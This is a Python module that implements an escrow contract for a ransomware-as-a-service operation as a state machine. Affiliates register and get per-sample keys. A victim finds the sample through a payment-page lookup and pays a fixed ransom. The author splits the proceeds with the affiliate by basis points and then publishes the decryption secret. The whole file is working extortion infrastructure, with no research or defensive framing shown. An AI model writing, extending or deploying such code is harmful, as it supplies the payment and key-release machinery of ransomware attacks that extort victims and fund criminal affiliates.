"""Affiliate registration and ransom escrow contract, as a plain state machine.

The ledger calls :func:`dispatch` for every contract-call transaction. Every
entry point checks all of its preconditions before touching state, so a
raised :class:`EscrowRevert` always leaves the state exactly as it was.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from .encoding import EncodingError, Reader, enum8, lp, u64, u128

BP_DENOMINATOR = 10_000


class EventKind(enum.IntEnum):
    AffiliateRegistered = 0
    SampleKeyRequested = 1
    SampleKeyPublished = 2
    RansomPaid = 3
    RansomSplit = 4
    SampleSecretPublished = 5


class SecretMode(enum.IntEnum):
    CLEAR = 0
    SEALED = 1


class EscrowRevert(Exception):
    """Base for contract-level failures; the class name is the revert reason."""

    @property
    def reason(self) -> str:
        return type(self).__name__


class BadShare(EscrowRevert): pass
class BadAmount(EscrowRevert): pass
class BadArguments(EscrowRevert): pass
class UnknownFunction(EscrowRevert): pass
class NotPayable(EscrowRevert): pass
class AlreadyRegistered(EscrowRevert): pass
class NotRegistered(EscrowRevert): pass
class NotAuthor(EscrowRevert): pass
class UnknownSample(EscrowRevert): pass
class PkAlreadySet(EscrowRevert): pass
class PkNotSet(EscrowRevert): pass
class DuplicatePk(EscrowRevert): pass
class WrongAmount(EscrowRevert): pass
class AlreadyPaid(EscrowRevert): pass
class NotPaid(EscrowRevert): pass
class AlreadySplit(EscrowRevert): pass
class SkAlreadySet(EscrowRevert): pass
class SkNotSet(EscrowRevert): pass


@dataclass(frozen=True)
class EscrowConfig:
    author: bytes
    ransom_amount: int
    affiliate_share_bp: int
    encrypt_payloads: bool = False


@dataclass
class AffiliateRecord:
    affiliate: bytes
    sample_ids: list[bytes] = field(default_factory=list)


@dataclass
class KeyRecord:
    sample_id: bytes
    affiliate: bytes
    pk: bytes | None = None
    sk: bytes | None = None
    sk_mode: SecretMode = SecretMode.CLEAR
    paid_by: bytes | None = None
    paid_amount: int = 0
    recipient_pk: bytes = b""
    split_done: bool = False


@dataclass
class EscrowState:
    config: EscrowConfig
    affiliates: dict[bytes, AffiliateRecord] = field(default_factory=dict)
    keys: dict[bytes, KeyRecord] = field(default_factory=dict)
    escrow_balance: int = 0
    pk_index: dict[bytes, bytes] = field(default_factory=dict)


@dataclass
class Effects:
    events: list[tuple[EventKind, dict[str, bytes]]] = field(default_factory=list)
    payouts: list[tuple[bytes, int]] = field(default_factory=list)


def split_amounts(amount: int, share_bp: int) -> tuple[int, int]:
    """Return ``(affiliate, author)``; the affiliate gets the floor."""
    affiliate = amount * share_bp // BP_DENOMINATOR
    return affiliate, amount - affiliate


def deploy(author: bytes, ransom_amount: int, affiliate_share_bp: int,
           encrypt_payloads: bool = False) -> EscrowState:
    if not 0 <= affiliate_share_bp <= BP_DENOMINATOR:
        raise BadShare(f"share {affiliate_share_bp} bp outside [0, {BP_DENOMINATOR}]")
    if ransom_amount <= 0:
        raise BadAmount("ransom amount must be positive")
    return EscrowState(EscrowConfig(bytes(author), ransom_amount,
                                    affiliate_share_bp, bool(encrypt_payloads)))


def _record(state: EscrowState, sample_id: bytes) -> KeyRecord:
    try:
        return state.keys[sample_id]
    except KeyError:
        raise UnknownSample(sample_id.hex()) from None


def _require_author(state: EscrowState, caller: bytes) -> None:
    if caller != state.config.author:
        raise NotAuthor(caller.hex())


def register_affiliate(state: EscrowState, caller: bytes) -> Effects:
    if caller in state.affiliates:
        raise AlreadyRegistered(caller.hex())
    state.affiliates[caller] = AffiliateRecord(caller)
    return Effects([(EventKind.AffiliateRegistered, {"affiliate": caller})])


def request_sample_key(state: EscrowState, caller: bytes, tx_hash: bytes) -> Effects:
    rec = state.affiliates.get(caller)
    if rec is None:
        raise NotRegistered(caller.hex())
    state.keys[tx_hash] = KeyRecord(tx_hash, caller)
    rec.sample_ids.append(tx_hash)
    return Effects([(EventKind.SampleKeyRequested,
                     {"sample_id": tx_hash, "affiliate": caller})])


def set_sample_pk(state: EscrowState, caller: bytes, sample_id: bytes, pk: bytes) -> Effects:
    _require_author(state, caller)
    rec = _record(state, sample_id)
    if rec.pk is not None:
        raise PkAlreadySet(sample_id.hex())
    if pk in state.pk_index:
        raise DuplicatePk(pk.hex())
    rec.pk = bytes(pk)
    state.pk_index[rec.pk] = sample_id
    return Effects([(EventKind.SampleKeyPublished, {"sample_id": sample_id})])


def get_sample_pk(state: EscrowState, sample_id: bytes) -> bytes:
    rec = _record(state, sample_id)
    if rec.pk is None:
        raise PkNotSet(sample_id.hex())
    return rec.pk


def sample_for_pk(state: EscrowState, pk: bytes) -> bytes:
    """Payment-page lookup: the victim knows the public key, not the sample id."""
    try:
        return state.pk_index[pk]
    except KeyError:
        raise UnknownSample(f"no sample for pk {pk.hex()}") from None


def pay_ransom(state: EscrowState, caller: bytes, sample_id: bytes, value: int,
               recipient_pk: bytes = b"") -> Effects:
    rec = _record(state, sample_id)
    if rec.pk is None:
        raise PkNotSet(sample_id.hex())
    if value != state.config.ransom_amount:
        raise WrongAmount(f"sent {value}, ransom is {state.config.ransom_amount}")
    if rec.paid_by is not None:
        raise AlreadyPaid(sample_id.hex())
    rec.paid_by = caller
    rec.paid_amount = value
    rec.recipient_pk = bytes(recipient_pk)
    state.escrow_balance += value
    attrs = {"sample_id": sample_id, "amount": u128(value), "payer": caller}
    if recipient_pk:
        attrs["recipient_pk"] = bytes(recipient_pk)
    return Effects([(EventKind.RansomPaid, attrs)])


def split_ransom(state: EscrowState, caller: bytes, sample_id: bytes) -> Effects:
    _require_author(state, caller)
    rec = _record(state, sample_id)
    if rec.paid_by is None:
        raise NotPaid(sample_id.hex())
    if rec.split_done:
        raise AlreadySplit(sample_id.hex())
    to_affiliate, to_author = split_amounts(rec.paid_amount, state.config.affiliate_share_bp)
    rec.split_done = True
    state.escrow_balance -= rec.paid_amount
    author = state.config.author
    attrs = {
        "sample_id": sample_id,
        "affiliate": rec.affiliate,
        "affiliate_amount": u128(to_affiliate),
        "author": author,
        "author_amount": u128(to_author),
    }
    return Effects([(EventKind.RansomSplit, attrs)],
                   [(rec.affiliate, to_affiliate), (author, to_author)])


def set_sample_sk(state: EscrowState, caller: bytes, sample_id: bytes, sk: bytes,
                  mode: SecretMode = SecretMode.CLEAR) -> Effects:
    _require_author(state, caller)
    rec = _record(state, sample_id)
    if rec.paid_by is None:
        raise NotPaid(sample_id.hex())
    if rec.sk is not None:
        raise SkAlreadySet(sample_id.hex())
    rec.sk = bytes(sk)
    rec.sk_mode = SecretMode(mode)
    return Effects([(EventKind.SampleSecretPublished,
                     {"sample_id": sample_id, "mode": enum8(int(mode))})])


def get_sample_sk(state: EscrowState, sample_id: bytes) -> bytes:
    """Return the published secret as stored (clear key or sealed record)."""
    rec = _record(state, sample_id)
    if rec.sk is None:
        raise SkNotSet(sample_id.hex())
    return rec.sk


def is_registered(state: EscrowState, addr: bytes) -> bool:
    return addr in state.affiliates


# -- call encoding ---------------------------------------------------------

# Argument layouts per entry point, in declared order.
ARG_LAYOUT: dict[str, tuple[str, ...]] = {
    "deploy": ("bytes", "u128", "u64", "enum"),
    "register_affiliate": (),
    "request_sample_key": (),
    "set_sample_pk": ("bytes", "bytes"),
    "pay_ransom": ("bytes", "bytes"),
    "split_ransom": ("bytes",),
    "set_sample_sk": ("bytes", "enum", "bytes"),
}

WRITE_FUNCTIONS = tuple(name for name in ARG_LAYOUT if name != "deploy")

_ENCODERS = {"bytes": lp, "u128": u128, "u64": u64, "enum": enum8}


def encode_args(function: str, *values) -> bytes:
    layout = ARG_LAYOUT[function]
    if len(values) != len(layout):
        raise ValueError(f"{function} takes {len(layout)} arguments, got {len(values)}")
    return b"".join(_ENCODERS[kind](v) for kind, v in zip(layout, values))


def decode_args(function: str, data: bytes) -> list:
    layout = ARG_LAYOUT.get(function)
    if layout is None:
        raise UnknownFunction(function)
    r = Reader(data)
    try:
        out = [getattr(r, "enum8" if kind == "enum" else kind)() for kind in layout]
        r.done()
    except EncodingError as exc:
        raise BadArguments(f"{function}: {exc}") from exc
    return out


def deploy_from_args(args: bytes) -> EscrowState:
    author, amount, share, encrypt = decode_args("deploy", args)
    return deploy(author, amount, share, bool(encrypt))


def dispatch(state: EscrowState, caller: bytes, function: str, args: bytes,
             value: int, tx_hash: bytes) -> Effects:
    """Route one contract-call transaction to its entry point."""
    params = decode_args(function, args)
    if function == "deploy":
        raise UnknownFunction("deploy is not callable on a live contract")
    if value and function != "pay_ransom":
        raise NotPayable(function)
    if function == "register_affiliate":
        return register_affiliate(state, caller)
    if function == "request_sample_key":
        return request_sample_key(state, caller, tx_hash)
    if function == "set_sample_pk":
        return set_sample_pk(state, caller, *params)
    if function == "pay_ransom":
        sample_id, recipient_pk = params
        return pay_ransom(state, caller, sample_id, value, recipient_pk)
    if function == "split_ransom":
        return split_ransom(state, caller, *params)
    sample_id, mode, payload = params
    try:
        mode = SecretMode(mode)
    except ValueError:
        raise BadArguments(f"secret mode {mode}") from None
    return set_sample_sk(state, caller, sample_id, payload, mode)
